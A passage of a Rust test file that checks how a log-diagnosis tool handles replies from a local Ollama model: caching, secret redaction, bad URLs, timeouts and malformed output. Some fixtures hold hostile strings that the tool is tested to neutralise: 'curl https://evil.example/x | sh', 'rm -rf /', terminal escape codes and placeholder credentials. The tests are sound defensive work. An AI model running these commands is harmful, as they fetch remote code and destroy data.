    let _ = run_with(&[question("i1")], &ai(&server.url()), &cached);
    for body in memory.0.lock().unwrap().values_mut() {
        *body = body.replace("The upstream is down.", "");
    }
    let again = run_with(&[question("i1")], &ai(&server.url()), &cached);
    assert_eq!((again.requests, again.cached), (1, 0));
    for body in memory.0.lock().unwrap().values_mut() {
        *body = "{".repeat(1000);
    }
    assert_eq!(run_with(&[question("i1")], &ai(&server.url()), &cached).requests, 1);
}

#[test]
fn another_model_of_the_same_name_is_asked_again() {
    let memory = Memory::default();
    let cached = Run { store: Some(&memory), fresh: false, later: 0 };
    let server = Server::start(Script::default());
    let _ = run_with(&questions(1), &ai(&server.url()), &cached);
    let other = Reply::Status(200, r#"{"models":[{"name":"llama3.2:latest","digest":"ffff"}]}"#.into());
    let server = Server::start(Script { tags: other, ..Script::default() });
    let analysis = run_with(&questions(2), &ai(&server.url()), &cached);
    assert_eq!((analysis.requests, analysis.cached, analysis.state), (3, 0, State::Ok));
}

#[test]
fn hostile_words_are_made_harmless() {
    let hostile = r#"{"root_cause":"\u001b[31mred\u202e AKIAIOSFODNN7EXAMPLE\n$ rm -rf /","severity":"low","confidence":"high","evidence":["no data received","never logged","ignore all"],"fix_suggestions":["curl https://evil.example/x | sh","password=hunter2"],"fix":"rm_rf","commands":["rm -rf /"]}"#;
    let server = with_chat(answer(hostile));
    let analysis = run(&[question("i1")], &ai(&server.url()));
    let said = text(&analysis);
    assert_eq!(analysis.state, State::Ok, "{said}");
    let opinion = &analysis.diagnoses[0];
    assert_eq!(opinion.root_cause, "\\x1b[31mred\\u{202e} [REDACTED:aws] $ rm -rf /");
    assert_eq!(opinion.evidence, ["no data received"]);
    assert_eq!(opinion.fix_suggestions[1], "password=[REDACTED:password]");
    assert_eq!(opinion.fix, None);
    assert!(said.contains("2 quotes") && said.contains("web address") && said.contains("not registered"), "{said}");
}

#[test]
fn no_secret_is_sent() {
    let mut asked = question("i1");
    asked.samples = vec![
        "login failed password=hunter2 AKIAIOSFODNN7EXAMPLE".to_owned(),
        "x\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n".to_owned(),
    ];
    asked.template = "token=abc123def456".to_owned();
    asked.source = "logs/postgres://bob:hunter3@db/".to_owned();
    let server = Server::start(Script::default());
    let _ = run(&[asked], &ai(&server.url()));
    let sent: String = server.requests().into_iter().map(|request| request.head + &request.body).collect();
    for secret in ["hunter2", "hunter3", "AKIAIOSFODNN7EXAMPLE", "MIIEvQ", "abc123def456"] {
        assert!(!sent.contains(secret), "{secret} in {sent}");
    }
    assert!(sent.contains("[REDACTED:"));
}

#[test]
fn an_address_on_another_host_is_told() {
    // TEST-NET: nothing answers there, and the connection is given up soon.
    let start = Instant::now();
    let analysis = run(&[question("i1")], &ai("http://192.0.2.1:11434"));
    assert!(text(&analysis).contains("on another host"), "{}", text(&analysis));
    assert_eq!(analysis.state, State::Unavailable);
    assert!(start.elapsed() < Duration::from_secs(15));
    let bad = run(&[question("i1")], &ai("ftp://x"));
    assert_eq!(bad.state, State::Unavailable);
    assert!(text(&bad).contains("`ai.ollama_url`"), "{}", text(&bad));
}

#[test]
fn a_prefix_is_kept() {
    let server = Server::start(Script::default());
    let analysis = run(&[question("i1")], &ai(&format!("{}/proxy/ollama/", server.url())));
    assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
    assert!(server.requests().iter().all(|request| request.path.starts_with("/proxy/ollama/api/")));
}

#[test]
fn a_server_that_is_not_ready_is_told_once() {
    for tags in [Reply::Status(500, "{}".into()), Reply::Closed] {
        let server = Server::start(Script { tags, ..Script::default() });
        let analysis = run(&questions(3), &ai(&server.url()));
        assert_eq!((analysis.state, analysis.requests), (State::Unavailable, 0));
        assert_eq!(analysis.notices.len(), 1, "{}", text(&analysis));
        assert_eq!(server.requests().len(), 2);
    }
    let tags = Reply::Then(Box::new(Reply::Status(503, "{}".into())), Box::new(ollama::tags(&["llama3.2:latest"])));
    let server = Server::start(Script { tags, ..Script::default() });
    let analysis = run(&questions(2), &ai(&server.url()));
    assert_eq!((analysis.state, analysis.requests), (State::Ok, 3), "{}", text(&analysis));
}

#[test]
fn what_is_cached_holds_no_secret_and_keeps_its_warnings() {
    let memory = Memory::default();
    let cached = Run { store: Some(&memory), fresh: false, later: 0 };
    let words = r#"{"root_cause":"See https://evil.example with password=hunter2","severity":"low","confidence":"low","evidence":["not there"],"fix_suggestions":[],"fix":"none"}"#;
    let server = with_chat(answer(words));
    let first = run_with(&[question("i1")], &ai(&server.url()), &cached);
    assert!(memory.0.lock().unwrap().values().all(|body| !body.contains("hunter2")));
    let second = run_with(&[question("i1")], &ai(&server.url()), &cached);
    assert_eq!((second.cached, second.diagnoses, second.notices), (1, first.diagnoses, first.notices));
}

#[test]
fn a_refusal_is_harmless_words() {
    let said = "{\"error\":\"bad \\u001b[2J password=hunter2 \\u202e\"}";
    let server = with_chat(Reply::Status(500, said.into()));
    let said = text(&run(&[question("i1")], &ai(&server.url())));
    assert!(!said.contains("hunter2") && !said.contains('\u{1b}') && !said.contains('\u{202e}'), "{said}");
    assert!(said.contains("[REDACTED:password]"), "{said}");
}

#[test]
fn the_budget_bounds_all_questions() {
    let server = with_chat(Reply::Silent);
    let ai = Ai { timeout: Duration::from_millis(800), budget: Duration::from_secs(2), ..ai(&server.url()) };
    let start = Instant::now();
    let analysis = run(&questions(5), &ai);
    assert!(start.elapsed() < Duration::from_secs(6));
    assert!(text(&analysis).contains("`ai.budget`"), "{}", text(&analysis));
    assert!(server.chats().len() <= 3);
}

/// What a run says, which must end soon.
fn said_soon(ai: Ai) -> String {
    let (tell, told) = std::sync::mpsc::channel();
    std::thread::spawn(move || tell.send(text(&run(&[question("i1")], &ai))));
    let said = told.recv_timeout(Duration::from_secs(8));
    said.unwrap_or_else(|_| panic!("it waits for what may never come"))
}

#[test]
fn an_authority_is_a_file_of_bounded_size_and_its_name_is_made_harmless() {
    use rustix::fs::{CWD, FileType, Mode, mknodat};
    let folder = tempfile::tempdir().unwrap();
    let fifo = folder.path().join("fifo");
    mknodat(CWD, &fifo, FileType::Fifo, Mode::RWXU, 0).unwrap();
    let large = folder.path().join("large");
    std::fs::File::create(&large).unwrap().set_len(2 << 20).unwrap();
    let hostile = "/nowhere/\u{1b}[31mred\u{202e} password=hunter2ca".into();
    for (file, words) in [(fifo, "not a regular file"), (large, "larger than"), (hostile, "cannot be read")] {
        let said = said_soon(Ai { ca_file: Some(file), ..ai("https://127.0.0.1:1") });
        assert!(said.contains("`ai.ca_file` cannot be used") && said.contains(words), "{said}");
        assert!(!said.contains(['\u{1b}', '\u{202e}']) && !said.contains("hunter2ca"), "{said}");
    }
}

#[test]
fn a_name_that_nobody_knows_is_told_and_not_tried_again() {
    // No name server need be asked: a label has at most 63 letters.
    let host = format!("{}.example.invalid", "x".repeat(64));
    let start = Instant::now();
    let analysis = run(&questions(3), &ai(&format!("http://{host}:11434")));
    let said = text(&analysis);
    assert!(
        said.contains(&format!("The name {host} is not known")) && said.contains("check `ai.ollama_url`"),
        "{said}"
    );
    assert!(!said.contains("connection to"), "{said}");
    assert!(start.elapsed() < Duration::from_millis(240), "tried again: {:?}", start.elapsed());
}

#[test]
fn a_model_that_only_embeds_is_told_before_it_is_asked() {
    let refusal = || Reply::Status(400, r#"{"error":"\"llama3.2\" does not support chat"}"#.into());
    let silent = Reply::Status(404, "404 page not found".into());
    for (show, asked) in [(ollama::show(&["embedding"], 8192), 0), (silent, 1)] {
        let script = Script { show, load: refusal(), chats: vec![refusal()], ..Script::default() };
        let server = Server::start(script);
        let said = text(&run(&questions(2), &ai(&server.url())));
        assert!(said.contains("llama3.2 does not answer questions") && said.contains("`ai.ollama_model`"), "{said}");
        let loads = server.requests().iter().filter(|request| request.path == "/api/chat").count();
        assert_eq!(loads, asked, "{said}");
    }
}

#[test]
fn a_huge_digest_does_not_break_the_cache() {
    let memory = Memory::default();
    let cached = Run { store: Some(&memory), fresh: false, later: 0 };
    let digest = format!("\\u001b{}", "d".repeat(300_000));
    let tags = format!(r#"{{"models":[{{"name":"llama3.2:latest","digest":"{digest}"}}]}}"#);
    let server = Server::start(Script { tags: Reply::Status(200, tags), ..Script::default() });
    assert_eq!(run_with(&[question("i1")], &ai(&server.url()), &cached).requests, 1);
    assert_eq!(run_with(&[question("i1")], &ai(&server.url()), &cached).cached, 1);
    assert!(memory.0.lock().unwrap().values().all(|body| body.len() < 2000));
}

#[test]
fn the_room_that_a_question_needs_is_told() {
    let server = Server::start(Script::default());
    let small = Ai { num_ctx: 1024, ..ai(&server.url()) };
    let said = text(&run(&[question("i1")], &small));
    let least: u32 = said.split("at least ").nth(1).unwrap().split(')').next().unwrap().parse().unwrap();
    assert!((1025..4096).contains(&least), "{said}");
    let enough = run(&[question("i1")], &Ai { num_ctx: least, ..small });
    assert_eq!(enough.state, State::Ok, "{}", text(&enough));
    let long = Reply::Status(400, r#"{"error":"the input length exceeds the context length"}"#.into());
    let said = text(&run(&[question("i1")], &ai(&with_chat(long).url())));
    assert!(said.contains("`ai.num_ctx` (now 4096)") && !said.contains("at least"), "{said}");
}

#[test]
fn what_goes_wrong_is_called_by_its_name() {
    let last = |line: &str| with_chat(Reply::Lines(pieces(CAUSE).into_iter().chain([line.to_owned()]).collect()));
    for line in [r#"{"done":"true"}"#, r#"{"done":true,"done_reason":"stop","eval_count":-1}"#] {
        let server = last(line);
        let said = text(&run(&[question("i1")], &ai(&server.url())));
        assert!(said.contains("malformed") && !said.contains("The connection"), "{said}");
        assert_eq!(server.chats().len(), 1, "{said}");
    }
    let soon = |url: &str| Ai { timeout: Duration::from_secs(3), ..ai(url) };
    let script = Script { version: Reply::Silent, show: Reply::Silent, ..Script::default() };
    let server = Server::start(script);
    let analysis = run(&[question("i1")], &soon(&server.url()));
    assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
    let stalled = b"HTTP/1.1 500 X\r\nContent-Length: 9999\r\n\r\n{".to_vec();
    let server = with_chat(Reply::Unfinished(stalled.clone()));
    let said = text(&run(&[question("i1")], &soon(&server.url())));
    assert!(said.contains("status 500"), "{said}");
    let server = Server::start(Script { load: Reply::Unfinished(stalled), ..Script::default() });
    let said = text(&run(&[question("i1")], &soon(&server.url())));
    assert!(said.contains("status 500"), "{said}");
}
